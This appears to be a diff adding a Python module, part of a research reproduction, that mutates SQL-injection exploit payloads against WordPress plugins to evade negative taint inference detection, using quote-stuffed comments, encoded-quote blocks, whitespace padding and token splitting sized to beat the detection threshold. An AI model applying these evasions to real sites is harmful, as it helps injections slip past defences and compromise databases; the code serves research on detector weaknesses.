@@ -1,0 +1,102 @@
+"""NTI evasion: mutate working exploits so negative taint inference misses.
+
+Implements the paper's novel evasion techniques (Sections III-A and V-A).
+NTI correlates *raw* inputs with the final query; any application-side
+transformation that changes the input on its way into the query inflates the
+edit distance.  The mutation picked for a plugin matches the transformation
+its pipeline actually performs (:class:`~repro.testbed.plugin_defs.NtiVector`):
+
+- ``magic_quotes`` -- insert a comment block stuffed with quotes; WordPress's
+  magic quotes adds a backslash per quote inside the query (Figure 6C).
+- ``urldecode`` -- insert a comment block stuffed with ``%27``; the
+  application's urldecode shrinks each to a single quote.
+- ``trim`` -- append whitespace; the application trims authenticated users'
+  input, deleting it from the query.
+- ``base64`` -- the input is decoded before use; the original exploit
+  already evades (the AdRotate case behind Table II's 49/50).
+- ``split`` -- distribute the payload across concatenated parameters, cut
+  inside every critical token, so no single input covers a whole token.
+
+Block/padding sizes are chosen from the NTI threshold so the resulting
+difference ratio provably exceeds it.
+"""
+
+from __future__ import annotations
+
+import math
+
+from ..matching.ratio import DEFAULT_NTI_THRESHOLD
+from ..testbed.exploits import Exploit
+from ..testbed.plugin_defs import NtiVector
+from .payloads import (
+    encoded_quote_comment_block,
+    evasion_insertion_point,
+    quote_comment_block,
+    split_inside_critical_tokens,
+)
+
+__all__ = ["mutate_payload_for_nti", "mutate_exploit_for_nti"]
+
+
+def _quotes_needed(payload_length: int, threshold: float) -> int:
+    """Quotes ``k`` such that ``k / (L + overhead + 2k) > threshold``.
+
+    With the comment block in place the matched query region is the payload
+    plus the block plus one added backslash per quote, and the edit distance
+    is the number of added backslashes ``k``.  Solving
+    ``k > threshold * (L + 5 + 2k)`` and doubling for margin.
+    """
+    if threshold >= 0.5:
+        raise ValueError("quote stuffing cannot beat a threshold >= 0.5")
+    minimum = threshold * (payload_length + 5) / (1 - 2 * threshold)
+    return max(8, 2 * math.ceil(minimum))
+
+
+def mutate_payload_for_nti(
+    payload: str,
+    vector: str,
+    context: str,
+    threshold: float = DEFAULT_NTI_THRESHOLD,
+    max_parts: int = 8,
+):
+    """Mutate one payload value for the given evasion vector.
+
+    Returns a string for in-place vectors, or a tuple of per-parameter parts
+    for the ``split`` vector.
+    """
+    if vector == NtiVector.BASE64:
+        return payload  # already unobservable to NTI
+    if vector == NtiVector.TRIM:
+        padding = max(8, math.ceil(threshold * len(payload) / (1 - threshold)) * 2)
+        return payload + " " * padding
+    if vector == NtiVector.SPLIT:
+        return split_inside_critical_tokens(payload, max_parts)
+    if vector == NtiVector.MAGIC_QUOTES:
+        block = quote_comment_block(_quotes_needed(len(payload), threshold))
+    elif vector == NtiVector.URLDECODE:
+        # Each %27 becomes ' (2 edits); the raw block is longer than the
+        # matched region, so the plain quote count is already generous.
+        block = encoded_quote_comment_block(
+            _quotes_needed(len(payload), threshold)
+        )
+    else:
+        raise ValueError(f"unknown NTI evasion vector {vector!r}")
+    at = evasion_insertion_point(payload, context)
+    return payload[:at] + block + payload[at:]
+
+
+def mutate_exploit_for_nti(
+    exploit: Exploit, threshold: float = DEFAULT_NTI_THRESHOLD
+) -> tuple:
+    """Mutate every payload of an exploit; returns the new payload tuple."""
+    defn = exploit.plugin
+    return tuple(
+        mutate_payload_for_nti(
+            payload,
+            defn.nti_vector,
+            defn.context,
+            threshold,
+            max_parts=len(defn.params),
+        )
+        for payload in exploit.payloads
+    )
